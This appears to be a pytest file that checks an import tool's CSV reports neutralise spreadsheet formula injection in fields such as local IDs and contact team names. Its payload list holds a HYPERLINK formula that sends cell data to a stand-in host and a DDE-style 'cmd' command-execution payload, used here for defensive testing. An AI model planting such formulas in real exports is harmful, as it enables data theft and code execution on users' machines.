"""The reports `signpost-admin import` writes are opened in a spreadsheet: no cell may be a formula.

A duplicate's contact team is free text another authority's practitioner typed when registering
the child, and a local_id is whatever the file held; either could be `=HYPERLINK(...)`, which a
spreadsheet would run on opening the report (and could send the row's other cells away).
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from signpost.import_client import write_reports

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&B2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
)


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as f:
        return [cell for row in list(csv.reader(f))[1:] for cell in row]


@pytest.mark.parametrize("value", FORMULAS)
def test_no_cell_of_either_report_starts_a_formula(tmp_path: Path, value: str) -> None:
    report = {
        "rejects": [{"row": 2, "local_id": value, "code": "R001_MISSING_FIELD", "field": "given_names"}],
        "duplicates_detail": [
            {
                "row": 3,
                "local_id": value,
                "signposts": [
                    {
                        "child_id": "3f2a9c5e8b7d4e01a6c2b9d8e7f60514",
                        "organisation": {"code": "E09000012", "name": value},
                        "contact": {
                            "team": value,
                            "phone": "+44 20 8356 5500",
                            "email": "fast@hackney.example",
                        },
                    }
                ],
            }
        ],
    }
    rejects, duplicates = write_reports(tmp_path / "caseload.csv", report)
    cells = _cells(rejects) + _cells(duplicates)
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    # the value is still there to read, behind the quote that makes it text
    assert _cells(rejects)[1] == "'" + value
    assert "'+44 20 8356 5500" in _cells(duplicates)


def test_ordinary_cells_are_written_as_they_are(tmp_path: Path) -> None:
    report = {
        "rejects": [{"row": 2, "local_id": "CAM-0001", "code": "R001_MISSING_FIELD", "field": None}],
        "duplicates_detail": [],
    }
    rejects, _ = write_reports(tmp_path / "caseload.csv", report)
    assert _cells(rejects) == ["2", "CAM-0001", "R001_MISSING_FIELD", ""]
